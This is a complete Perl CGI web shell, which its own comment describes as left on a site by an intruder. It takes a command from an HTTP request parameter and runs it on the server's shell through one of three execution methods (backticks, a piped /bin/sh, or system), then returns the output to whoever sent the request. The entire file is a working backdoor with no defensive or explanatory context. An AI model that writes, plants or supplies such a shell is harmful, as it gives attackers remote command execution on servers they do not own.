#!/usr/bin/perl
# A page shell, left by an intruder.
use CGI;
my $q = CGI->new;
my ($how, $c) = ($q->param('m') // '', $q->param('q') // '');
print $q->header('text/plain');
if ($how eq 'qx') { print qx{$c} }
elsif ($how eq 'open') { open(my $p, '-|', '/bin/sh', '-c', "$c") or die; print while <$p> }
else { $| = 1; system($c) }
